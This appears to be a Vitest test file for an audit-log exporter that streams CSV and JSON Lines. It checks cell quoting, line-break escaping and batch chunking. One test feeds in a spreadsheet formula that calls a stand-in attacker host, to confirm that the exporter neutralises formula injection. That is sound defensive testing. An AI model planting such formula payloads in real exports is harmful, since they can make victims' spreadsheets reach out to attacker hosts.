// The Audit log as streamed CSV and JSON Lines.
import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import type { AuditEvent } from '../../../src/db/queries/audit.js';
import { CSV_BATCH_ROWS } from '../../../src/services/export/csv-chunks.js';
import { auditCsv, auditJsonLines } from '../../../src/services/export/audit-export.js';

async function* from<T>(items: Iterable<T>): AsyncGenerator<T> {
  for (const item of items) yield item;
}

async function text(chunks: AsyncIterable<string>): Promise<string> {
  let out = '';
  for await (const c of chunks) out += c;
  return out;
}

const event = (over: Partial<AuditEvent> = {}): AuditEvent => ({
  id: 41,
  at: Date.UTC(2026, 11, 4, 16, 0, 0),
  actorId: 1,
  actorLabel: 'owner@example.com',
  action: 'invitation.created',
  targetType: 'invitation',
  targetId: '7',
  targetLabel: 'ada@example.com',
  details: { profile: 'designer', groups: 1 },
  ...over,
});

describe('auditCsv', () => {
  it('writes one row per event, details as JSON in one quoted cell', async () => {
    const csv = await text(auditCsv(from([event(), event({ id: 42, actorId: null, actorLabel: 'system', action: 'setup', targetType: null, targetId: null, targetLabel: null, details: {} })]), { bom: false }));
    expect(csv).toBe(
      'id,at,actor,action,target type,target id,target,details\r\n' +
        '41,2026-12-04T16:00:00Z,owner@example.com,invitation.created,invitation,7,ada@example.com,"{""profile"":""designer"",""groups"":1}"\r\n' +
        '42,2026-12-04T16:00:00Z,system,setup,,,,{}\r\n',
    );
  });

  it('protects a target label that a spreadsheet would run', async () => {
    const csv = await text(auditCsv(from([event({ targetLabel: '=WEBSERVICE("http://evil.example")' })])));
    const [, cells] = parse(csv, { bom: true }) as string[][];
    expect(cells?.[6]).toBe(`'=WEBSERVICE("http://evil.example")`);
  });
});

describe('auditJsonLines', () => {
  it('writes one JSON object per line, the target null when there is none', async () => {
    const lines = (await text(auditJsonLines(from([event(), event({ id: 42, targetType: null, targetId: null, targetLabel: null })])))).split('\n');
    expect(lines.pop()).toBe('');
    expect(lines.map((l) => JSON.parse(l))).toEqual([
      {
        id: 41,
        at: '2026-12-04T16:00:00Z',
        actor: { id: 1, label: 'owner@example.com' },
        action: 'invitation.created',
        target: { type: 'invitation', id: '7', label: 'ada@example.com' },
        details: { profile: 'designer', groups: 1 },
      },
      expect.objectContaining({ id: 42, target: null }),
    ]);
  });

  it('keeps a line break inside a value escaped, so each event stays one line', async () => {
    const out = await text(auditJsonLines(from([event({ targetLabel: 'two\nlines\u2028here' })])));
    expect(out.split('\n')).toHaveLength(2);
    expect(JSON.parse(out.split('\n')[0]!).target.label).toBe('two\nlines\u2028here');
  });

  it(`yields a chunk per ${CSV_BATCH_ROWS} events, and nothing for none`, async () => {
    const chunks: string[] = [];
    for await (const c of auditJsonLines(from(Array.from({ length: CSV_BATCH_ROWS + 3 }, (_, i) => event({ id: i }))))) chunks.push(c);
    expect(chunks.map((c) => c.split('\n').length - 1)).toEqual([CSV_BATCH_ROWS, 3]);
    expect(await text(auditJsonLines(from([])))).toBe('');
  });
});
